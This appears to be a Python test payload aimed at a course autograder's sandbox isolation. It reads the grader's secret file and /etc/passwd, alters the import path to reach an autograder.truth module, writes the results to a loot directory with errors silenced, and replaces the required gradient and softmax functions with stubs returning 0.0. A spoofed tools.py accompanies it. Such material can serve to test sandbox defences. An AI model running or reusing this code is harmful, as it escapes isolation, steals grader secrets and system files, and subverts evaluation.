"""Goal: load a module from a path outside, past the finder of one's own modules.

Fires: reached
Without: isolation limits
"""

import importlib
import sys
from importlib.machinery import ExtensionFileLoader, PathFinder, SourceFileLoader

import tools

def load():
    yield SourceFileLoader("secret", "@COURSE@/.autograder/secret").get_data("@COURSE@/.autograder/secret")
    sys.path[:0] = ["@LOOT@", "/tmp", ".."]
    sys.meta_path.append(PathFinder)
    importlib.invalidate_caches()
    yield SourceFileLoader("passwd", "/etc/passwd").get_data("/etc/passwd")
    yield importlib.import_module("autograder.truth").__file__.encode()

try:
    for found in load():
        with open("@LOOT@/module", "wb") as file:
            file.write(found)
except Exception:
    pass

def attack(*inputs):
    return 0.0

for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
    globals()[name] = attack

# file: tools.py
__path__ = ["@COURSE@", "/etc", ".."]
__file__ = "/etc/passwd"
